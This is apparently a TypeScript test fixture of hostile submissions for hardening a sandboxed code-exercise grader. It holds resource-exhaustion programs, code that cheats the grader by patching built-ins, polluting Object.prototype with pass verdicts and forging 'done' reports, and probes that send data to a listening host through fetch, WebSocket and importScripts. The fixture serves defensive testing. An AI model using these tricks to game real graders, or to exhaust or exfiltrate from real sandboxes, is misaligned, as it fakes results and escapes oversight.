/** Submissions to the exercise of `grader-support.ts` that want marks they have not earned, or harm. None is right. */

export interface GraderAttack {
  name: string;
  code: string;
}

const wrong = 'export function answer(x: number) { return x - 1; }';
const before = (patch: string): string => `${patch}\n${wrong}`;
const answering = (body: string): string => `export function answer(x: any): any { ${body} }`;

/** Group D: staying alive, eating the machine. */
export const hungry: GraderAttack[] = [
  { name: 'D1 an endless loop on loading', code: before('while (true) {}') },
  { name: 'D1 an endless loop in a call', code: answering('while (true) {}') },
  { name: 'D1 a promise that never settles', code: answering('return new Promise(() => {});') },
  {
    name: 'D1 microtasks without end',
    code: before('const again = (): void => queueMicrotask(again); again();'),
  },
  {
    name: 'D2 gigabytes',
    code: answering('const kept = []; for (;;) kept.push(new Float64Array(2 ** 24).fill(x));'),
  },
  {
    name: 'D5 a million lines',
    code: answering('for (let i = 0; i < 1e6; i++) console.log(i); return x - 1;'),
  },
  { name: 'D5 one line of 100 MB', code: answering("console.log('x'.repeat(1e8)); return x - 1;") },
  {
    name: 'D8 timers that go on after the answer',
    code: before(
      "setInterval(() => { console.log('still here'); for (let i = 0; i < 1e6; i++); }, 0); setTimeout(() => { while (true) {} }, 5);",
    ),
  },
  { name: 'D10 recursion without end', code: answering('return answer(x) + 1;') },
  {
    name: 'D10 an answer nested 100,000 deep',
    code: answering('let a: any = []; for (let i = 0; i < 1e5; i++) a = [a]; return a;'),
  },
  {
    name: 'D10 an answer of a hundred million numbers',
    code: answering('return new Float64Array(1e8);'),
  },
  {
    name: 'D11 waiting on shared memory',
    code: answering(
      'const { buffer } = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }); Atomics.wait(new Int32Array(buffer), 0, 0); return x - 1;',
    ),
  },
  { name: 'D13 null thrown', code: answering('throw null;') },
  { name: 'D13 undefined thrown on loading', code: before('throw undefined;') },
  { name: 'D13 a symbol thrown', code: answering("throw Symbol('mine');") },
  {
    name: 'D13 a proxy thrown that throws',
    code: answering(
      'throw new Proxy({}, { get() { throw 1; }, getPrototypeOf() { throw 2; }, has() { throw 3; } });',
    ),
  },
  {
    name: 'D13 an error whose message throws',
    code: answering(
      "class Mine extends Error { get message() { throw new Error('again'); } toString() { throw 1; } } throw new Mine();",
    ),
  },
  {
    name: 'D14 the worker closed, its messages taken away',
    code: before(
      'const g = globalThis as any; for (const act of [() => g.close(), () => g.self.close(), () => { g.onmessage = null; }, () => { delete g.postMessage; }]) try { act(); } catch {}',
    ),
  },
];

/** Group E: cheating the grader. */
export const cheating: GraderAttack[] = [
  {
    name: 'E4 comparisons patched',
    code: before(
      'Object.is = () => true; Number.isNaN = () => false; Math.abs = () => 0; Array.prototype.every = () => true; JSON.stringify = () => "3";',
    ),
  },
  {
    name: 'E4 promises patched',
    code: before(
      'const then = Promise.prototype.then; Promise.prototype.then = function (this: any, f: any) { return then.call(this, () => f?.({ passed: true, results: [] })); } as any;',
    ),
  },
  {
    name: 'E4 iteration patched',
    code: before(
      'Array.prototype[Symbol.iterator] = function* () {} as any; Map.prototype.get = () => undefined; Set.prototype.has = () => true;',
    ),
  },
  {
    name: 'E4 Reflect and Function patched',
    code: before(
      'Reflect.apply = (() => 3) as any; Function.prototype.call = function () { return 3; } as any; Function.prototype.apply = function () { return 3; } as any;',
    ),
  },
  {
    name: 'E4 Object.prototype polluted with verdicts',
    code: before(
      "Object.assign(Object.prototype, { passed: true, status: 'passed', ok: true, value: 3, results: [{ id: 'fixed', name: 'x', status: 'passed' }] });",
    ),
  },
  {
    name: 'E4 Object.prototype given setters and getters',
    code: before(
      "for (const name of ['error', 'status', 'type', 'run', 'call', 'result']) Object.defineProperty(Object.prototype, name, { get() { return undefined; }, set() {}, configurable: true });",
    ),
  },
  {
    name: 'E4 the message port patched',
    code: before(
      "const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (this: any, message: any, ...rest: any[]) { if (message?.result) message.result = { ok: true, value: 3 }; post.call(this, { type: 'done', run: message?.run, value: { passed: true, results: [{ id: 'fixed', name: 'x', status: 'passed' }], seed: 1, elapsedMs: 1 } }); return (post as any).call(this, message, ...rest); } as any;",
    ),
  },
  {
    name: 'E4 the port’s ears patched',
    code: before(
      "let taken: any; const proto: any = MessagePort.prototype; for (const name of ['onmessage', 'close', 'start', 'addEventListener']) { const own = Object.getOwnPropertyDescriptor(proto, name) ?? {}; try { Object.defineProperty(proto, name, { ...own, ...(own.set ? { set(this: any, listener: any) { taken = this; own.set!.call(this, listener); } } : { value(this: any, ...rest: any[]) { taken = this; return own.value?.apply(this, rest); } }) }); } catch {} } setInterval(() => { for (let call = 1; call < 50; call++) taken?.postMessage({ call, result: { ok: true, value: 3 } }); }, 1);",
    ),
  },
  {
    name: 'E4 incoming messages patched',
    code: before(
      "Object.defineProperty(MessageEvent.prototype, 'data', { get: () => ({ type: 'task', name: 'judge', run: 1, seed: 1, payload: { checks: '', entry: [], mistakes: [], exports: [] } }) }); for (let run = 0; run < 50; run++) for (const data of [{ call: 1, result: { ok: true, value: 3 } }, { type: 'peer', role: 'judge', port: new MessageChannel().port1 }]) dispatchEvent(new MessageEvent('message', { data }));",
    ),
  },
  {
    name: 'E4 the hook of evaluation taken',
    code: before(
      "try { Object.defineProperty(globalThis, '__take', { value: () => ({ answer: (x: number) => x + 1 }), writable: false, configurable: false }); } catch {}",
    ),
  },
  {
    name: 'E4 the module pretends to be a promise',
    code: before(
      'export function then(resolve: any) { resolve(new Proxy({ passed: true, answer: (x: number) => x - 1 }, { get: (of: any, key) => of[key] ?? true })); }',
    ),
  },
  {
    name: 'E4 the checks’ own module patched',
    code: `import * as kit from 'heavy-weights/checks';
import * as hw from 'heavy-weights';
for (const name of Object.keys(kit)) try { (kit as any)[name] = () => undefined; } catch {}
for (const name of Object.keys(hw)) try { (hw as any)[name] = () => undefined; } catch {}
try { kit.defineChecks([kit.check('mine', 'Mine passes', async () => kit.expectTrue(true, 'yes'))]); } catch {}
${wrong}`,
  },
  {
    name: 'E4 errors that look like the sandbox’s own, on loading',
    code: `import { ReaderError } from 'heavy-weights';
throw new ReaderError({ code: 'check-defect', explain: 'The checks of this exercise could not be loaded.' });
${wrong}`,
  },
  {
    name: 'E4 errors that look like the sandbox’s own, in a call',
    code: `import { ReaderError } from 'heavy-weights';
export function answer(x: number) { throw new ReaderError({ code: 'stopped', explain: 'The run was stopped.' }); }`,
  },
  {
    name: 'E5 valueOf and toPrimitive',
    code: answering('return { valueOf: () => 3, [Symbol.toPrimitive]: () => 3, toJSON: () => 3 };'),
  },
  { name: 'E5 a boxed number', code: answering('return new Number(x + 1);') },
  { name: 'E5 text', code: answering('return String(x + 1);') },
  { name: 'E5 NaN', code: answering('return NaN;') },
  { name: 'E5 a proxy', code: answering('return new Proxy({}, { get: () => x + 1 });') },
  { name: 'E5 an array of it', code: answering('return [x + 1];') },
  {
    name: 'E5 a getter that throws',
    code: answering("return { get value() { throw new Error('looked'); } };"),
  },
  {
    name: 'E5 an array with a lying length',
    code: answering('const a: number[] = []; a.length = 4e9; return a;'),
  },
  { name: 'E5 a cycle', code: answering('const a: any = {}; a.self = a; return a;') },
  {
    name: 'E7 answers learnt by heart',
    code: answering("if (Number.isNaN(x)) throw new RangeError('x'); return x === 2 ? 3 : 1;"),
  },
  {
    name: 'E11 clocks and chance patched',
    code: before('Math.random = () => 0; Date.now = () => 0; performance.now = () => -1e9;'),
  },
  { name: 'an empty program', code: '// nothing' },
  { name: 'another name', code: 'export function answers(x: number) { return x + 1; }' },
  { name: 'no function', code: 'export const answer = 3;' },
  { name: 'a syntax error', code: 'export function answer(x: number) { return (x + 1; }' },
  {
    name: 'HTML in every message',
    code: answering(
      'throw new Error(\'<img src=x onerror="document.title=1">\\u202e=HYPERLINK(1)\');',
    ),
  },
];

/** What needs the ways out that hardening takes away: tried in a build without it. */
export const unlocked: GraderAttack[] = [
  {
    name: 'D4 100,000 messages of its own',
    code: before(
      'const u = (globalThis as any).unlocked; for (let i = 0; i < 1e5; i++) u.postMessage(i);',
    ),
  },
  {
    name: 'D4 100 MB in one message',
    code: before("const u = (globalThis as any).unlocked; u.postMessage('x'.repeat(1e8));"),
  },
  {
    name: 'D7 workers that start workers',
    code: before(
      "const u = (globalThis as any).unlocked; const url = URL.createObjectURL(new Blob(['for (;;);'])); for (let i = 0; i < 20; i++) new u.Worker(url); while (true) {}",
    ),
  },
  {
    name: 'E6 a forged report',
    code: before(
      "const u = (globalThis as any).unlocked; for (let run = 1; run < 100; run++) u.postMessage({ type: 'done', run, value: { passed: true, results: [{ id: 'fixed', name: 'Two and one are three', status: 'passed' }], seed: 1, elapsedMs: 1 } });",
    ),
  },
  {
    name: 'E6 a forged report as the frame would send it',
    code: before(
      "const u = (globalThis as any).unlocked; for (let worker = 1; worker < 50; worker++) u.postMessage({ type: 'message', worker, message: { type: 'done', run: worker, value: { passed: true, results: [{ id: 'fixed', name: 'x', status: 'passed' }], seed: 1, elapsedMs: 1 } } });",
    ),
  },
];

/** Ways out; `at` is where somebody listens. */
export const reachingOut = (at: string): GraderAttack[] => {
  const trying = (act: string): string =>
    `const g = globalThis as any; const u = g.unlocked ?? g; const at = '${at}';
try { ${act}; } catch {}
await new Promise((r) => setTimeout(r, 250));
${wrong}`;
  return [
    {
      name: 'A1 fetch',
      code: trying("await u.fetch(at, { method: 'POST', mode: 'no-cors', body: 'answers' })"),
    },
    {
      name: 'A3 WebSocket',
      code: trying(
        "const w = new u.WebSocket(at.replace('http', 'ws')); await new Promise((r) => { w.onclose = r; w.onerror = r; })",
      ),
    },
    { name: 'A5 importScripts', code: trying("u.importScripts(at + '.js')") },
  ];
};
